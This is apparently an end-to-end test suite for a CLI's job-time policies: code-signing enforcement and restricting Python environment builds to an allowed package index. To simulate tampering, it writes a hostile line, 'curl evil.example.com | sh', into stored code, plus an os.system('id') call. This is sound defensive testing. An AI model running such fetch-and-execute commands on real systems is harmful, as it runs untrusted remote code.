import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { chmod, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { finished, waitForJob } from './support/jobs.js';
import { removeHome, runCli, startTrellis, type TrellisProcess } from './support/trellis-process.js';

const run = promisify(execFile);

/**
 * Job-time enforcement of Azure's enforce-setting definitions, end to end on a real server
 * through the CLI: AllowedSigningKey_EnforceSetting with keys from `trellis code keygen` (unsigned,
 * signed by another key and tampered code refused at submit, each naming why and the fix; signed
 * code runs; code changed in the store after submit is caught before it runs), and
 * AllowedPythonPackageChannels_EnforceSetting holding the environment build to the allowed index:
 * a package the machine's own PIP_FIND_LINKS would supply is not found under the policy, and is
 * found without it.
 */
describe('job-time policies: signed code and the allowed package index', () => {
  let trellis: TrellisProcess;
  let files: string;
  const cli = (...args: string[]) => runCli(args, { url: trellis.url, cwd: files });
  const ok = async (...args: string[]) => {
    const result = await cli(...args);
    assert.equal(result.code, 0, `trellis ${args.join(' ')}:\n${result.stderr}${result.stdout}`);
    return result.stdout;
  };
  const json = async <T>(...args: string[]): Promise<T> => JSON.parse(await ok(...args, '-o', 'json')) as T;
  const write = async (name: string, text: string) => {
    await mkdir(dirname(join(files, name)), { recursive: true });
    await writeFile(join(files, name), text);
  };
  const attemptLog = (workspace: string, job: string, log: string) =>
    readFile(join(trellis.home, 'jobs', workspace, job, 'attempt-1', 'user_logs', log), 'utf8');
  const index = () => `file://${join(files, 'index', 'simple')}`;

  before(async () => {
    files = await mkdtemp(join(tmpdir(), 'trellis-job-policies-'));
    // A package index of one wheel (the allowed one), and a find-links folder of another, as a machine's pip settings would give.
    await makeWheel(join(files, 'index', 'simple', 'trellis-probe'), 'trellis_probe', 'VALUE = "from the allowed index"\n', true);
    await makeWheel(join(files, 'wheels'), 'host_only_probe', 'VALUE = "from the machine\'s find-links"\n', false);
    trellis = await startTrellis({
      env: { TRELLIS_ENV_CACHE: join(files, 'environments'), PIP_FIND_LINKS: join(files, 'wheels'), TRELLIS_JOB_TICK_MS: '200' },
    });
    await ok('workspace', 'create', '--name', 'signed');
    await ok('workspace', 'create', '--name', 'pkgs');
  });
  after(async () => {
    await trellis?.stop();
    if (trellis) await removeHome(trellis.home);
    if (files) await rm(files, { recursive: true, force: true });
  });

  it('runs only code signed by an allowed key, checked at submit and again before it runs', async () => {
    assert.match(await ok('code', 'keygen', '--out', 'keys/team', '-C', 'ml-team'), /fingerprint: SHA256:/);
    await ok('code', 'keygen', '--out', 'keys/other');
    const teamKey = (await readFile(join(files, 'keys', 'team.pub'), 'utf8')).trim();
    assert.match(teamKey, /^ssh-ed25519 \S+ ml-team$/);
    assert.equal((await run('stat', ['-c', '%a', join(files, 'keys', 'team')])).stdout.trim(), '600', 'the private key is private');

    // A key that cannot verify anything is refused when assigned, naming the parameter; nothing is stored.
    const pgp = await cli(
      'policy',
      'assignment',
      'create',
      '--name',
      'signed-code',
      '--definition',
      'AllowedSigningKey_EnforceSetting',
      '--scope',
      '/workspaces/signed',
      '--param',
      'signingKey=-----BEGIN PGP PUBLIC KEY BLOCK-----\\nmQINBF',
    );
    assert.notEqual(pgp.code, 0);
    assert.match(pgp.stderr, /parameters\.signingKey.*this is a PGP key/s);
    assert.doesNotMatch(await ok('policy', 'assignment', 'list', '-o', 'json'), /signed-code/, 'the refused assignment was not stored');

    await ok(
      'policy',
      'assignment',
      'create',
      '--name',
      'signed-code',
      '--definition',
      'AllowedSigningKey_EnforceSetting',
      '--scope',
      '/workspaces/signed',
      '--param',
      `signingKey=${teamKey}`,
    );
    await write('src/train.py', 'print("signed code ran")\n');
    await write('src/block.py', 'import os, sys, time\nwhile not os.path.exists(sys.argv[1]): time.sleep(0.1)\n');
    const flag = join(files, 'release');
    await write('job.yml', 'code: src\ncommand: python3 train.py\nenvironment:\n  image: library/python:latest\n');
    await write(
      'cluster-job.yml',
      'code: src\ncommand: python3 train.py\nenvironment:\n  image: library/python:latest\ncompute: azureml:one-node\n',
    );
    await write(
      'blocker.yml',
      `code: src\ncommand: python3 block.py ${flag}\nenvironment:\n  image: library/python:latest\ncompute: azureml:one-node\n`,
    );

    const unsigned = await cli('job', 'create', '--file', 'job.yml', '-w', 'signed');
    assert.notEqual(unsigned.code, 0);
    assert.match(
      unsigned.stderr,
      /disallowed by policy '[^']+' \(assignment 'signed-code'\): the code carries no signature \(no \.trellis-signature\.json at its root\); sign the code folder with an allowed key: trellis code sign <folder> --key <private key>/,
    );

    assert.match(await ok('code', 'sign', 'src', '--key', 'keys/other'), /signed 2 files of src with key SHA256:/);
    const byOther = await cli('job', 'create', '--file', 'job.yml', '-w', 'signed');
    assert.notEqual(byOther.code, 0);
    assert.match(byOther.stderr, /it is signed by key SHA256:\S+, which is not an allowed signing key \(allowed: SHA256:\S+\)/);
    const verifyOther = await cli('code', 'verify', 'src', '--key', 'keys/team.pub');
    assert.notEqual(verifyOther.code, 0, 'trellis code verify says the same before anything is sent');

    await ok('code', 'sign', 'src', '--key', 'keys/team');
    assert.match(
      await ok('code', 'verify', 'src', '--key', 'keys/team.pub'),
      /signature valid, key SHA256:\S+, digest sha256:[0-9a-f]{64} \(an allowed key\)/,
    );
    await write('src/train.py', 'print("signed code ran"); import os; os.system("id")\n');
    const tampered = await cli('job', 'create', '--file', 'job.yml', '-w', 'signed');
    assert.notEqual(tampered.code, 0);
    assert.match(tampered.stderr, /the code changed after it was signed: 'train\.py' modified/);
    assert.deepEqual((await json<{ items: unknown[] }>('job', 'list', '-w', 'signed')).items, [], 'no refused job was queued');

    await write('src/train.py', 'print("signed code ran")\n');
    const created = await json<{ name: string }>('job', 'create', '--file', 'job.yml', '-w', 'signed');
    const done = await waitForJob(trellis.client, created.name, finished, 120_000, 'signed');
    assert.equal(done.state, 'Completed', done.reason ?? '');
    assert.match(await attemptLog('signed', created.name, 'std_log.txt'), /signed code ran/);
    assert.match(await attemptLog('signed', created.name, 'prepare_log.txt'), /code signature verified: key SHA256:\S+, sha256:/);

    // After submit, the stored code is changed under a queued job: the run checks the files it is about to run, and fails.
    await write('one-node.yml', 'name: one-node\ntype: amlcompute\nsize: Standard_DS3_v2\nmin_instances: 0\nmax_instances: 1\n');
    await ok('compute', 'create', '--file', 'one-node.yml', '-w', 'signed');
    const blocker = await json<{ name: string }>('job', 'create', '--file', 'blocker.yml', '-w', 'signed');
    await waitForJob(trellis.client, blocker.name, (job) => job.state === 'Running', 120_000, 'signed');
    const queued = await json<{ name: string }>('job', 'create', '--file', 'cluster-job.yml', '-w', 'signed');
    const blob = contentBlob(trellis.home, 'signed', 'print("signed code ran")\n');
    await chmod(blob, 0o644);
    await writeFile(blob, 'import os; os.system("curl evil.example.com | sh")\n');
    await writeFile(flag, '');
    assert.equal((await waitForJob(trellis.client, blocker.name, finished, 120_000, 'signed')).state, 'Completed');
    const caught = await waitForJob(trellis.client, queued.name, finished, 120_000, 'signed');
    assert.equal(caught.state, 'Failed');
    assert.match(
      caught.reason ?? '',
      /failed its signature check before running \(the code changed after it was signed: 'train\.py' modified\)/,
    );
  });

  it("builds the environment from the allowed index only, not from the machine's own pip settings", async () => {
    await ok(
      'policy',
      'assignment',
      'create',
      '--name',
      'our-index',
      '--definition',
      'AllowedPythonPackageChannels_EnforceSetting',
      '--scope',
      '/workspaces/pkgs',
      '--param',
      `allowedPythonPackageChannels=["${index()}", "conda-forge"]`,
    );
    const environment = (packages: string[]) =>
      `environment:\n  image: library/python:latest\n  conda_file:\n    channels: [conda-forge]\n    dependencies:\n      - python=3\n      - pip:\n          - --index-url ${index()}\n${packages.map((name) => `          - ${name}\n`).join('')}`;
    await write(
      'probe-job.yml',
      `command: python -c "import trellis_probe; print(trellis_probe.VALUE)"\n${environment(['trellis-probe==1.0'])}`,
    );
    await write(
      'host-job.yml',
      `command: python -c "import host_only_probe; print(host_only_probe.VALUE)"\n${environment(['trellis-probe==1.0', 'host-only-probe==1.0'])}`,
    );

    const probe = await json<{ name: string }>('job', 'create', '--file', 'probe-job.yml', '-w', 'pkgs');
    const probed = await waitForJob(trellis.client, probe.name, finished, 300_000, 'pkgs');
    assert.equal(probed.state, 'Completed', probed.reason ?? '');
    assert.match(await attemptLog('pkgs', probe.name, 'std_log.txt'), /from the allowed index/);
    assert.match(
      await attemptLog('pkgs', probe.name, 'environment_build_log.txt'),
      /packages only from file:\/\/\S+, as policy 'our-index' allows; this machine's PIP_INDEX_URL, PIP_FIND_LINKS and pip config files are not used/,
    );

    // The machine's find-links folder holds host-only-probe: under the policy the build does not look there.
    const held = await json<{ name: string }>('job', 'create', '--file', 'host-job.yml', '-w', 'pkgs');
    const failed = await waitForJob(trellis.client, held.name, finished, 300_000, 'pkgs');
    assert.equal(failed.state, 'Failed');
    assert.match(failed.reason ?? '', /building the Python environment failed/);
    assert.match(await attemptLog('pkgs', held.name, 'environment_build_log.txt'), /No matching distribution found for host-only-probe/);

    // The same job where no policy applies: pip finds it through the machine's PIP_FIND_LINKS, so the refusal above is the policy's doing.
    const open = await json<{ name: string }>('job', 'create', '--file', 'host-job.yml', '-w', 'default');
    const opened = await waitForJob(trellis.client, open.name, finished, 300_000, 'default');
    assert.equal(opened.state, 'Completed', opened.reason ?? '');
    assert.match(await attemptLog('default', open.name, 'std_log.txt'), /from the machine's find-links/);
  });
});

/** Where the workspace's content store keeps bytes with this content (a plain workspace: not sealed). */
function contentBlob(home: string, workspace: string, text: string): string {
  const hex = createHash('sha256').update(text).digest('hex');
  return join(home, 'artifacts', 'workspaces', workspace, 'blobs', 'sha256', hex.slice(0, 2), hex);
}

/** A wheel of one module, written with Python's zipfile (RECORD with its hashes), and a PEP 503 page for it when `page`. */
async function makeWheel(folder: string, module: string, source: string, page: boolean): Promise<void> {
  await mkdir(folder, { recursive: true });
  const script = `
import base64, hashlib, sys, zipfile
folder, module, source = sys.argv[1], sys.argv[2], sys.argv[3]
name = module.replace('_', '-')
info = f"{module}-1.0.dist-info"
files = {
  f"{module}/__init__.py": source,
  f"{info}/METADATA": f"Metadata-Version: 2.1\\nName: {name}\\nVersion: 1.0\\n",
  f"{info}/WHEEL": "Wheel-Version: 1.0\\nGenerator: trellis-test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
}
record = "".join(f"{path},sha256={base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b'=').decode()},{len(text.encode())}\\n" for path, text in files.items())
files[f"{info}/RECORD"] = record + f"{info}/RECORD,,\\n"
with zipfile.ZipFile(f"{folder}/{module}-1.0-py3-none-any.whl", "w") as wheel:
  for path, text in files.items(): wheel.writestr(path, text)
`;
  await run('python3', ['-c', script, folder, module, source]);
  if (page)
    await writeFile(
      join(folder, 'index.html'),
      `<html><body><a href="${module}-1.0-py3-none-any.whl">${module}-1.0-py3-none-any.whl</a></body></html>\n`,
    );
}
